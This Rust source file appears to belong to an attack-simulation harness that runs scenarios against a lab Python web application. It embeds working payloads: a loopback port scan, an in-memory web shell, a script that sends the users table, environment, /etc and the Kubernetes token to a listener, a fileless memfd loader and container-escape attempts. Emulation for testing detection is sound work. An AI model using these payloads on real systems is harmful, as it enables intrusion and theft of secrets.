//! Attacks on the Python application.
//!
//! In: a target that is one. Out: scenarios. Never: another server's.

use super::moves::{FETCH, LOOT, dropped};
use crate::attacks::{Ready, Scenario, attacker, target::TOKEN_TEXT};
use std::{thread, time::Duration};

const PICKLE: &str = "pickle in a cookie of the Python application";

/// Every port of the first thousand, as a shell without tools does it.
const SCAN: &str = "for ((p = 1; p <= 1000; p++)); do (exec 3<>/dev/tcp/127.0.0.1/$p) 2>/dev/null && echo open $p; done
(exec 3<>/dev/tcp/127.0.0.1/3306) 2>/dev/null && echo open 3306; echo scanned; true";

/// Python in the application: a page that runs commands, kept in memory only.
const WEB_SHELL: &str = "import __main__, os
__main__.PAGES['/status'] = lambda query: [os.popen(query.get('c', 'id')).read()]";

/// Python in the application: the table of users and the pod's token go out, without another process.
const EXFILTRATE: &str = "import __main__, socket, json, os
found = __main__.rows('SELECT * FROM users')
loot = json.dumps({'users': found, 'environment': dict(os.environ), 'etc': {}})
for name in sorted(os.listdir('/etc')):
    try: loot += open('/etc/' + name, errors='replace').read()
    except OSError: pass
loot += open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()
home = socket.create_connection(('127.0.0.1', 4446))
for i in range(0, len(loot), 1024): home.sendall(loot[i:i + 1024].encode())
home.close()";

/// Python in the application: a program that is a file in memory only.
const FILELESS: &str = "import os, socket, subprocess
home = socket.create_connection(('127.0.0.1', 4445)); program = b''
while piece := home.recv(65536): program += piece
fd = os.memfd_create('', 0)
os.write(fd, program)
subprocess.run(['/proc/self/fd/%d' % fd, '4446'], pass_fds=[fd])";

/// Python in the application: what an escape begins with. All of it is refused with EPERM (1), which the error page shows.
const MOUNT: &str = "import ctypes
libc = ctypes.CDLL(None, use_errno=True); errors = []
for what, kind in ((b'none', b'tmpfs'), (b'/dev/vda', b'ext4'), (b'none', b'cgroup')):
    errors.append(ctypes.get_errno() if libc.mount(what, b'/tmp', kind, 0, None) else libc.umount2(b'/tmp', 2))
raise Exception('refused: %s' % errors)";

/// Python in the application: the namespaces of process 1, and new ones. All of it is refused, as above.
const NSENTER: &str = "import ctypes, os
libc = ctypes.CDLL(None, use_errno=True); errors = []
for name in ('mnt', 'uts', 'ipc'):
    fd = os.open('/proc/1/ns/' + name, os.O_RDONLY)
    errors.append(ctypes.get_errno() if libc.setns(fd, 0) else 0)
    os.close(fd)
errors.append(ctypes.get_errno() if libc.unshare(0x00020000) else 0)
raise Exception('refused: %s' % errors)";

/// Its scenarios.
pub(super) const ALL: &[Scenario] = &[
    Scenario {
        name: "web-shell",
        server: "webapp",
        technique: "T1505.003",
        entry: PICKLE,
        what: "adds a page to the running application that runs commands, and uses it six times",
        services: &[],
        act: |t| {
            t.python(WEB_SHELL)?;
            let mut seen = String::new();
            for command in ["id", "uname -a", "ls -la /app", "cat /etc/passwd", "env", "cat /proc/1/cmdline"] {
                seen += &t.get(&format!("/status?c={}", attacker::urlencode(command)), "")?;
                thread::sleep(Duration::from_millis(300));
            }
            Ok(seen)
        },
        proof: "uid=0(root)",
    },
    Scenario {
        name: "dropped-binary",
        server: "webapp",
        technique: "T1105",
        entry: PICKLE,
        what: "fetches a program that deletes its own file, goes to the background and calls home four times",
        services: &[(FETCH, Ready::Program("implant")), (LOOT, Ready::Sink)],
        act: |t| t.run(dropped!("4446")),
        proof: "implant on",
    },
    Scenario {
        name: "network-scan",
        server: "webapp",
        technique: "T1046",
        entry: PICKLE,
        what: "a shell tries a thousand ports of loopback",
        services: &[],
        act: |t| t.run(SCAN),
        proof: "open 3306",
    },
    Scenario {
        name: "exfiltration",
        server: "webapp",
        technique: "T1041",
        entry: PICKLE,
        what: "the application itself reads the users' table, /etc and the token, and sends them out; no process starts",
        services: &[(LOOT, Ready::Sink)],
        act: |t| t.python(EXFILTRATE),
        proof: TOKEN_TEXT,
    },
    Scenario {
        name: "memfd",
        server: "webapp",
        technique: "T1620",
        entry: PICKLE,
        what: "fetches a program into memory and runs it from there; no file is written",
        services: &[(FETCH, Ready::Program("implant")), (LOOT, Ready::Sink)],
        act: |t| t.python(FILELESS),
        proof: "implant on",
    },
    Scenario {
        name: "mount",
        server: "webapp",
        technique: "T1611",
        entry: PICKLE,
        what: "tries to mount a file system and the host's disk; the kernel refuses",
        services: &[],
        act: |t| t.python(MOUNT),
        proof: "refused: [1, 1, 1]",
    },
    Scenario {
        name: "nsenter",
        server: "webapp",
        technique: "T1611",
        entry: PICKLE,
        what: "tries to enter the namespaces of process 1 and to make new ones; the kernel refuses",
        services: &[],
        act: |t| t.python(NSENTER),
        proof: "refused: [1, 1, 1, 1]",
    },
];
